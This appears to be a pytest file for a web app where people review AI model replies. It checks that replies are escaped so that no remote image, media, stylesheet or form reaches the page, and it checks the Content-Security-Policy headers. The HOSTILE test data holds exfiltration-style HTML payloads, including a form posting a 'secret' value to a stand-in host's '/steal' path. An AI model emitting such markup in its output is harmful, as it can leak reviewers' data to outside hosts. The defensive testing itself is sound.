"""Model text (prompts and replies) is made inert before it reaches the page: no remote image,
srcset, video, audio, stylesheet or form to another host survives as markup, so the reviewer's
browser does not even attempt a request outside this host (before, it attempted them and only the
Content-Security-Policy blocked them)."""

from __future__ import annotations

import signal

import httpx
import pytest

from feedback_app.security import inert_markdown
from tests.attack.conftest import PASSWORDS, serve
from tests.conftest import stop_app

REMOTE = "203.0.113.9"  # TEST-NET-3: never a real host
HOSTILE = [
    f'Look <img src="http://{REMOTE}/a.png"> and <img srcset="http://{REMOTE}/b.png 2x" src="/x.png">',
    f'<video src="http://{REMOTE}/v.mp4" autoplay></video><audio src="http://{REMOTE}/a.mp3" autoplay></audio> '
    f'![md](http://{REMOTE}/md.png) <picture><source srcset="http://{REMOTE}/p.png"></picture>',
    f'<form action="http://{REMOTE}/steal"><input name="q" value="secret"><button id="evil-submit">Send</button>'
    f'</form> <link rel="stylesheet" href="http://{REMOTE}/s.css"> <svg><image href="http://{REMOTE}/i.png"/></svg>',
]


def test_inert_markdown_on_hand_made_html():
    assert inert_markdown('a <img src="http://x/p.png"> b') == 'a &lt;img src="http://x/p.png"> b'
    assert inert_markdown('<img/src=http://x/p.png>') == '&lt;img/src=http://x/p.png>'
    assert inert_markdown('<p srcset="http://x/1.png 2x">t</p>') == '&lt;p srcset="http://x/1.png 2x">t</p>'
    assert inert_markdown('<video src=v.mp4></video>') == '&lt;video src=v.mp4>&lt;/video>'
    assert inert_markdown('<form action="http://x/"><button>go</button></form>') == \
        '&lt;form action="http://x/">&lt;button>go&lt;/button>&lt;/form>'
    assert inert_markdown('<!-- hidden --><?php ?>') == '&lt;!-- hidden -->&lt;?php ?>'
    assert inert_markdown('![alt](http://x/p.png) and ![ref][r]') == '!&#91;alt](http://x/p.png) and !&#91;ref][r]'
    # Plain formatting, comparisons, autolinks and code stay as they are.
    assert inert_markdown('<b>bold</b><br/> <em>e</em>') == '<b>bold</b><br/> <em>e</em>'
    assert inert_markdown('if a < b and b > c') == 'if a < b and b > c'
    assert inert_markdown('see <https://example.org/doc>') == 'see <https://example.org/doc>'
    assert inert_markdown('`<img src=x>` and\n```html\n<video src=y>\n```\n<img src=z>') == \
        '`<img src=x>` and\n```html\n<video src=y>\n```\n&lt;img src=z>'
    # A code span does not cross a blank line (CommonMark), so its "inside" is escaped there.
    assert inert_markdown('`a\n\n<img src=q>\n\n`') == '`a\n\n&lt;img src=q>\n\n`'


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, tiny_model_dir):
    server = serve(tmp_path_factory.mktemp("hostile"), tiny_model_dir, replies=HOSTILE)
    yield server
    assert stop_app(server.app) in (0, -signal.SIGTERM), server.app.output()


def test_reviewer_and_ab_pages_attempt_no_remote_request(hostile_server, browser):
    from tests.web.conftest import Recorder, login, open_page, wait_until

    created = httpx.post(hostile_server.url + "/api/admin/ab/sets", headers=hostile_server.headers("admin"),
                         timeout=30, json={"name": "hostile", "policy_a": "a", "policy_b": "b", "items": [
                             {"prompt": f"Which? ![p](http://{REMOTE}/prompt.png)", "reply_a": HOSTILE[0],
                              "reply_b": HOSTILE[1] + HOSTILE[2]}]})
    assert created.status_code == 201, created.text
    rec = Recorder()
    page = open_page(browser, rec)
    login(page, hostile_server.url, "bob", PASSWORDS["bob"])
    page.wait_for_selector("#reply-2 .prose", timeout=30000)
    wait_until(lambda: "(item " in page.inner_text("#reply-2"), 30, "an item")
    page.wait_for_timeout(1000)
    shown = page.inner_text("#reply-0") + page.inner_text("#reply-1") + page.inner_text("#reply-2")
    assert "<img" in shown and "<video" in shown and "<form" in shown  # shown as text, for the reviewer to judge
    assert page.locator("[id^=reply-] img, [id^=reply-] video, [id^=reply-] form, [id^=reply-] source").count() == 0

    page.goto(hostile_server.url + "/ab")
    # The page shows the two replies in a random order: the <img> reply may be on either side.
    wait_until(lambda: "<img" in page.inner_text("#ab-left") + page.inner_text("#ab-right"), 30, "the A/B item")
    page.wait_for_timeout(1000)
    assert page.locator("#ab-left img, #ab-right img, #ab-right form, #ab-prompt img").count() == 0
    assert rec.outside() == [], rec.outside()  # not even attempted (a CSP-blocked request would be listed)
    assert not [u for u in rec.urls if REMOTE in u]
    page.context.close()


def test_the_pages_policy_allows_no_eval_and_no_other_host(attack_server):
    """The Content-Security-Policy of the pages and the API: no 'unsafe-eval' (Gradio's pages run
    without it), and scripts, sockets and fetches go to this origin only (no bare ws:/wss:)."""
    cookies = {"rlhf_token": attack_server.reviewer_token}
    for path in ("/review", "/ab", "/health", "/api/me"):
        answer = httpx.get(attack_server.url + path, cookies=cookies, timeout=60, follow_redirects=True)
        assert answer.status_code == 200, (path, answer.status_code)
        policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
        assert "'unsafe-eval'" not in answer.headers["content-security-policy"], path
        assert policy["connect-src"] == "'self'" and policy["script-src"].split()[0] == "'self'", policy
        assert not {"ws:", "wss:", "http:", "https:", "*"} & set(" ".join(policy.values()).split()), policy
        assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
